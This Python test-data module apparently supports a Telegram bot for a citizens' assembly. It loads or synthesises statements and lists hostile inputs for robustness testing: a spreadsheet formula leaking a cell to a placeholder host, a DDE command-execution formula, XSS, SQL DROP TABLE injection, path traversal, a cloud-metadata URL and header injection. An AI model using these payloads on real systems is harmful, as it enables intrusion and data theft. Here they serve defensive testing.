"""What people write: the real statements of a citizens' assembly, or as many like them, and hostile
words.
"""

from __future__ import annotations

import csv
import random
import unicodedata
from pathlib import Path

ROOT = Path(__file__).resolve().parents[3]
REAL = ROOT.parent / "shared/data/polis/klimarat-wohnen/comments.csv"
MESSAGE, ANSWER = 4_096, 16_384
"""UTF-16 units of one Telegram message, and of one answer."""

Found = tuple[str, str, str]
"""Prompt type, language, and the value as a text."""


def statements() -> tuple[str, list[tuple[str, str]]]:
    """Where they come from, and (author, statement) in the order of writing."""
    if REAL.exists():
        with REAL.open(encoding="utf-8", newline="") as file:
            rows = sorted(csv.DictReader(file), key=lambda row: int(row["timestamp"]))
        return "real", [(row["author-id"], row["comment-body"]) for row in rows]
    return "generated", made_up()


def made_up() -> list[tuple[str, str]]:
    """As many, as long and as odd as the real ones, for machines without them."""
    chance = random.Random(613)
    alone = {54: 1, 16: 1, 15: 1, 14: 1, 13: 1, 10: 2, 9: 1, 8: 3, 7: 4, 6: 6, 5: 11, 4: 13, 3: 14}
    shares = [n for n, people in {**alone, 2: 47, 1: 141}.items() for _ in range(people)]
    authors = [str(author) for author, n in enumerate(shares) for _ in range(n)]
    chance.shuffle(authors)
    letters = "eeeennnniiissrrattdhulcgmobwfkzäöüßp" + "EDSW" + "      ,.;:-?!()0247€°"
    said = []
    for number, author in enumerate(authors):
        length = min(275, max(1, int(chance.gauss(102, 60))))
        words = "".join(chance.choices(letters, k=length)).strip()
        quoted = f'"{words}" ' if number % 32 == 0 else f"{words} "
        broken = quoted.replace(". ", ".\n", 1) if number % 50 == 0 else quoted
        said.append((author, f"{broken}{number}"))
    return said


HOSTILE = (
    '=HYPERLINK("http://x/?"&A1)', "+1+cmd|'/c calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1",
    "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "'=1+1", "a;b\n=1+1", '";"\n=2+2', '"', "{=1+1}",
    "<b>open", "<<b>", "&lt;b&gt;", '<a href="tg://user?id=1">x</a>', "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>', "_*[](", "{{7*7}}", "%s %d %", "{0.__class__}",
    "'; DROP TABLE contribution; --", "_x0041_", "_x0041_x0042_", "_x005F_x0041_", "<r><t>x</t></r>",
    "tab\tinside\tand\x01\x02\x0b\x0c\x1f\x7f\x85controls", "a\u2028b\u2029c", "a\ufffe\uffffb",
    "a\rb\r\nc\nd\n", "  blanks at both ends  ", "\ufeffwith a mark", "abc \u202egnp.exe\u202c def",
    "\u2067rtl isolate\u2069", "zero\u200bwidth\u200djoined", "👩‍👩‍👧‍👦🏳️‍🌈" * 40, "e" + "\u0301" * 1_000,
    "ıİiI dotless", "https://169.254.169.254/latest", "I am Anna Müller, 0171 2345678",
    "Your answers have been sent.", "../../etc/passwd", "\r\nSet-Cookie: a=b", "00123", "1e999",
    "true", "31.12.2027", "#REF!", "[1, 2", '{"a": 1, "a": 2}', "ＡＢＣ full width", "مرحبا (abc) 123",
    "🙂" * 4_096, "x" * MESSAGE, "y" * (MESSAGE + 1), "a\x01" * 5_000,
    unicodedata.normalize("NFC", "Grüße, Straßenbäume"), unicodedata.normalize("NFD", "Grüße, Straßenbäume"),
)  # fmt: skip
REFUSED = ("a\x00b", "half a pair \ud83d of it", "\u200b\u200d\u2060", " \n\t ")
"""What no file could give back, and what shows nothing: refused, in words, and not stored."""


def pieces(text: str) -> list[str]:
    """As Telegram's own programs send a text that is longer than one message."""
    found, piece, units = [], "", 0
    for character in text:
        wide = 1 + (character > "\uffff")
        if units + wide > MESSAGE:
            found.append(piece)
            piece, units = "", 0
        piece, units = piece + character, units + wide
    return [*found, piece]
